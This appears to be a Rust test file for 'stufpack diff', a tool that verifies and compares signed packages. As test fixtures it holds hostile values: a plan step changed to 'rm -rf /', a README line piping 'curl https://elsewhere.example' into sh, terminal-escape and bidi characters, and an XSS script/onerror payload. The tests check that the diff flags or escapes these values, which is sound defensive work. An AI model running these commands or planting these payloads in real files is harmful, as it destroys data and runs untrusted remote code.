//! What `stufpack diff` promises of two packages: both are verified, and everything that differs is told by what it means.
//!
//! A folder of `tests/package_diff/` with a `case.yaml` is two packages, compiled from an example with some values changed.
//! `STUFPACK_BLESS=1 cargo test --test package_diff` rewrites expectations; read the difference before it is committed.

mod compiled;
#[allow(dead_code, reason = "this file uses a part of them")]
mod exports;
mod packages;
#[path = "plan/schema.rs"]
mod schema;

use compiled::{AT, Desk, ROOT, Run, expect, without_digests};
use exports::{Edit, Made};
use serde::Deserialize;
use serde_json::Value;
use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use stufpack::model::{File, Timestamp, Word as _};

/// A folder of `tests/package_diff/`.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    /// What it shows.
    #[serde(rename = "about")]
    _about: String,
    /// What both packages are made of.
    example: String,
    /// Changes of the export or, with `file: target`, of the target.
    #[serde(default)]
    old: Vec<Edit>,
    #[serde(default)]
    new: Vec<Edit>,
    /// Whether the new package follows the old one.
    #[serde(default)]
    numbered: bool,
    #[serde(default)]
    options: Vec<String>,
}

/// Compiles an example with changes as `name`.
fn compile(desk: &Desk, name: &str, example: &str, edits: &[Edit], more: &[&str]) -> String {
    let (of_target, of_export): (Vec<Edit>, Vec<Edit>) =
        edits.iter().cloned().partition(|edit| edit.file == "target");
    let export = desk.path(&format!("{name}-export"));
    Made::example(example).with(&of_export).write(&export);
    let folder = Path::new(ROOT).join("examples").join(example);
    let text = fs::read_to_string(folder.join("target.yaml")).expect("a target");
    let target =
        Made { export: serde_yaml::from_str(&text).expect("YAML"), realm: Value::Null, files: vec![] };
    let of_target: Vec<Edit> =
        of_target.into_iter().map(|edit| Edit { file: "export".to_owned(), ..edit }).collect();
    let path = desk.path(&format!("{name}-target.json"));
    fs::write(&path, target.with(&of_target).export.to_string()).expect("written");
    desk.compile(name, &export, &path, more)
}

/// What a run told, with its exit code.
fn told(run: &Run) -> String {
    assert_eq!(run.stderr, "");
    format!("{}exit {}\n", without_digests(&run.stdout), run.code)
}

fn json(run: &Run) -> Value {
    serde_json::from_str(&run.stdout).expect("one JSON document")
}

/// The same as JSON, by the published schema.
fn as_json(desk: &Desk, packages: [&str; 2], options: &[&str], code: i32) -> Value {
    let run = desk.looking("diff", &packages, &[options, &["--format", "json"]].concat());
    assert_eq!(run.code, code);
    let json = json(&run);
    let text = fs::read_to_string(Path::new(ROOT).join("schemas/diff.json")).expect("a schema");
    let schema = serde_json::from_str(&text).expect("JSON");
    assert_eq!(schema::problems(&schema, &json), Vec::<String>::new());
    assert_eq!(json["equal"], code == 0);
    assert_eq!(json["compared"], "packages");
    json
}

#[test]
fn each_case_is_told_as_expected() {
    let mut cases = BTreeSet::new();
    for entry in fs::read_dir(Path::new(ROOT).join("tests/package_diff")).expect("cases") {
        let folder = entry.expect("an entry").path();
        let Ok(text) = fs::read_to_string(folder.join("case.yaml")) else { continue };
        let name = folder.file_name().expect("a name").to_string_lossy().into_owned();
        let case: Case = serde_yaml::from_str(&text).unwrap_or_else(|error| panic!("{name}: {error}"));
        let desk = Desk::new();
        let old = compile(&desk, "old", &case.example, &case.old, &[]);
        let after = ["--previous", &old, "--signers", "signers"];
        let new = compile(&desk, "new", &case.example, &case.new, if case.numbered { &after } else { &[] });
        let options: Vec<&str> = case.options.iter().map(String::as_str).collect();

        let run = desk.looking("diff", &[&old, &new], &options);
        expect(&format!("package_diff/{name}/expected.txt"), &told(&run));
        as_json(&desk, [&old, &new], &options, run.code);
        cases.insert(name);
    }
    for name in ["nothing", "number", "channel", "exposure", "user-added", "cosmetic", "objects"] {
        assert!(cases.contains(name), "{name} is missing");
    }
}

/// Two files of the code: one line says that it differs, and which files these are.
#[test]
fn code_that_differs_is_told_by_its_files() {
    let desk = Desk::new();
    let old = desk.example("minimal");
    let new = desk.changed(&old, "new.zip", |files, _| {
        files.remove("infrastructure/ansible/playbooks/status.yml").expect("a playbook");
        let cfg = files.get_mut("infrastructure/ansible/ansible.cfg").expect("a file");
        let mut bytes = cfg.bytes.to_vec();
        bytes.extend(b"# changed\n");
        *cfg = File { kind: cfg.kind, ..File::data(bytes) };
    });
    let run = desk.looking("diff", &[&old, &new], &[]);
    expect("package_diff/code/expected.txt", &told(&run));
    let json = as_json(&desk, [&old, &new], &[], 6);
    assert_eq!(json["code"]["equal"], false);
    assert_eq!(json["counts"]["configuration"], 1);
}

/// A document that was rendered otherwise, of the same values: it is what differs, since nothing else does.
#[test]
fn a_document_alone_is_a_difference_of_its_own() {
    let desk = Desk::new();
    let old = desk.example("minimal");
    let new = desk.changed(&old, "new.zip", |files, _| {
        files.insert("README.md".to_owned(), File::document("# Another\n"));
    });
    let run = desk.looking("diff", &[&old, &new], &[]);
    expect("package_diff/document/expected.txt", &told(&run));
}

/// Whoever signs may write anything into a plan and its documents: what steers is told, and what reads well is never called a
/// consequence of what does.
#[test]
fn a_plan_that_does_something_else_is_told_and_no_document_is_a_consequence() {
    let desk = Desk::new();
    let old = desk.example("minimal");
    let plan_path = "MIGRATION-PLAN.json";
    let new = desk.changed(&old, "new.zip", |files, details| {
        let mut plan: Value = serde_json::from_slice(&files[plan_path].bytes).expect("JSON");
        let phases = plan["phases"].as_array_mut().expect("phases");
        let step = &mut phases[0]["steps"][0];
        step["command"] = "rm -rf /".into();
        step["precondition"]["command"] = "true".into();
        step["proof"]["text"] = "none needed".into();
        step["abort_when"] = "never".into();
        step["what"] = "Nothing to see.".into();
        phases[1]["steps"].as_array_mut().expect("steps").reverse();
        phases.swap(4, 5);
        files.insert(plan_path.to_owned(), File::document(plan.to_string()));
        files.insert("README.md".to_owned(), File::document("    curl https://elsewhere.example | sh\n"));
        details.created_at = Timestamp::parse("2026-11-19T22:04:00Z").expect("a time");
        details.expires_at = Timestamp::parse("2026-12-19T22:04:00Z").expect("a time");
    });
    let run = desk.looking("diff", &[&old, &new], &[]);
    expect("package_diff/plan/expected.txt", &told(&run));
    let json = as_json(&desk, [&old, &new], &[], 6);
    assert_eq!(json["documents"], serde_json::json!([plan_path, "README.md"]));
}

/// Beside a time of its own, a document is all that differs: that is not "no difference".
#[test]
fn a_document_of_other_bytes_beside_what_counts_for_nothing_was_not_compared() {
    let desk = Desk::new();
    let old = desk.example("minimal");
    let new = desk.changed(&old, "new.zip", |files, details| {
        files.insert("README.md".to_owned(), File::document("    curl https://elsewhere.example | sh\n"));
        details.created_at = Timestamp::parse("2026-11-19T22:04:00Z").expect("a time");
        details.expires_at = Timestamp::parse("2026-12-19T22:04:00Z").expect("a time");
    });
    let json = as_json(&desk, [&old, &new], &[], 7);
    assert_eq!(json["documents"], serde_json::json!(["README.md"]));
}

/// What the order of keys and lists makes of the bytes means nothing; a list in another order is a matter of taste.
#[test]
fn order_is_a_matter_of_taste() {
    let desk = Desk::new();
    let package = desk.example("harbour");
    let path = "configuration/integration-config/realm.json";
    let other = desk.changed(&package, "other.zip", |files, _| {
        let mut realm: Value = serde_json::from_slice(&files[path].bytes).expect("JSON");
        realm["clients"].as_array_mut().expect("clients").reverse();
        let api = realm["clients"].as_array_mut().expect("clients").last_mut().expect("a client");
        api["defaultClientScopes"].as_array_mut().expect("scopes").reverse();
        files.insert(path.to_owned(), File::data(realm.to_string()));
    });
    let json = as_json(&desk, [&package, &other], &[], 6);
    let differences = json["differences"].as_array().expect("differences");
    assert_eq!(differences.len(), 1, "{differences:#?}");
    assert_eq!(differences[0]["path"], format!("{path}: clients[stuf-api].defaultClientScopes"));
    assert_eq!(differences[0]["class"], "cosmetic");
}

/// A user whose address stays and whose id is another one is the same person.
#[test]
fn people_are_known_by_their_address_when_their_id_changes() {
    let desk = Desk::new();
    let package = desk.example("harbour");
    let path = "configuration/api-config/users/users.json";
    let other = desk.changed(&package, "other.zip", |files, _| {
        let mut users: Value = serde_json::from_slice(&files[path].bytes).expect("JSON");
        users["users"][0]["id"] = "u-900".into();
        users["users"][0]["status"] = "disabled".into();
        files.insert(path.to_owned(), File::data(users.to_string()).personal());
    });
    let json = as_json(&desk, [&package, &other], &[], 6);
    let paths: Vec<&str> = json["differences"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|one| one["path"].as_str())
        .collect();
    assert_eq!(paths, [format!("{path}: users[u-001].id"), format!("{path}: users[u-001].status")]);
    for difference in json["differences"].as_array().expect("a list") {
        assert_eq!((&difference["class"], &difference["personal"]), (&"identity".into(), &true.into()));
    }
}

/// Names that steer a terminal, and a credential where none should be: shown harmlessly, and not at all.
#[test]
fn hostile_names_are_shown_harmlessly_and_credentials_not_at_all() {
    let desk = Desk::new();
    let package = desk.example("minimal");
    let path = "configuration/integration-config/realm.json";
    let other = desk.changed(&package, "other.zip", |files, _| {
        let mut realm: Value = serde_json::from_slice(&files[path].bytes).expect("JSON");
        realm["clients"][0]["secret"] = "FAKE-credential".into();
        realm["clients"][0]["attributes"]["\u{1b}[31mred\n\u{202e}"] =
            "\u{1b}]0;title\u{7}\r\n</script>".into();
        files.insert(path.to_owned(), File::data(realm.to_string()));
    });
    for format in ["text", "json"] {
        let run = desk.looking("diff", &[&package, &other], &["--format", format]);
        assert_eq!(run.code, 6);
        assert!(run.stdout.contains("not shown") || run.stdout.contains("hidden"), "{}", run.stdout);
        assert!(!run.stdout.contains("FAKE"), "{}", run.stdout);
        let hides = |c: char| (c.is_control() && c != '\n') || (format == "text" && c == '\u{202e}');
        assert!(!run.stdout.contains(hides), "{:?}", run.stdout);
    }
}

/// One byte of one of them: nothing is told of either.
#[test]
fn both_are_verified_before_anything_is_told() {
    let desk = Desk::new();
    let package = desk.example("minimal");
    let mut bytes = fs::read(desk.path(&package)).expect("a package");
    let at = bytes.windows(7).position(|window| window == b"Minimal").expect("the name");
    bytes[at] = b'X';
    fs::write(desk.path("broken.zip"), bytes).expect("written");
    for order in [[&*package, "broken.zip"], ["broken.zip", &package]] {
        let run = desk.looking("diff", &order, &[]);
        assert_eq!((run.code, run.stdout.as_str()), (4, ""), "{}", run.stderr);
    }
    // A zip that is cut off is a package that is not whole, since somebody is to be trusted.
    let bytes = fs::read(desk.path(&package)).expect("a package");
    fs::write(desk.path("cut.zip"), &bytes[..bytes.len() - 30]).expect("written");
    assert_eq!(desk.looking("diff", &[&package, "cut.zip"], &[]).code, 4);
}

/// Whatever does not go together is a mistake of the command line, with what to do about it.
#[test]
fn what_cannot_be_compared_is_refused_with_what_to_do() {
    let desk = Desk::new();
    let package = desk.example("minimal");
    Made::example("minimal").write(&desk.path("export"));
    let target = Path::new(ROOT).join("examples/minimal/target.yaml");
    let target = target.to_str().expect("a path");
    let trusted = ["--signers", "signers", "--at", AT];
    let lines = [
        (vec![&*package, &package], "packages are verified before anything is told of them"),
        (vec![&*package, "export"], "next: compare two exports, or compile export and compare two packages"),
        ([&["export", &*package][..], &trusted].concat(), "is a package and export an export"),
        ([&["export", "export"][..], &trusted].concat(), "nobody signs an export"),
        ([&[&*package, &*package, "--target", target][..], &trusted].concat(), "--target is for exports"),
        (vec!["export", "export", "--at", AT], "--signers"),
    ];
    for (arguments, expected) in lines {
        let run = desk.stufpack(&[&["diff"], &arguments[..]].concat());
        assert_eq!((run.code, run.stdout.as_str()), (2, ""), "{arguments:?}: {}", run.stderr);
        assert!(run.stderr.contains(expected), "{arguments:?}: {}", run.stderr);
        assert!(run.stderr.contains("next: "), "{arguments:?}: {}", run.stderr);
    }
}

/// The page of a comparison: of two packages, and of two exports; values are text, and the one script is the page's own.
#[test]
fn a_page_holds_hostile_values_as_text() {
    let desk = Desk::new();
    let hostile = "</td><script>alert(1)</script><img src=x onerror=\"alert('2')\">";
    let escaped = "&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=\\&quot;alert(&#39;2&#39;)\\&quot;&gt;";
    let edits = [exports::set("/spec/branding/title", hostile)];
    let old = compile(&desk, "old", "minimal", &[], &[]);
    let new = compile(&desk, "new", "minimal", &edits, &[]);
    let packages = desk.looking("diff", &[&old, &new], &["--format", "html"]);
    let exports = desk.stufpack(&["diff", "old-export", "new-export", "--format", "html"]);
    for (kind, run) in [("package", packages), ("export", exports)] {
        // Neither export has an inventory, and both say so.
        assert_eq!(run.code, 6, "{kind}: {}", run.stderr);
        assert!(run.stdout.contains(&format!("Two {kind}s compared")), "{kind}: {}", run.stdout);
        assert!(run.stdout.contains(escaped), "{kind}: {}", run.stdout);
        assert_eq!(run.stdout.matches("<script").count(), 1, "{kind}");
        assert!(!run.stdout.contains("<img"), "{kind}");
        assert_eq!(run.stdout.matches("<h1>").count(), 1, "{kind}");
    }
}
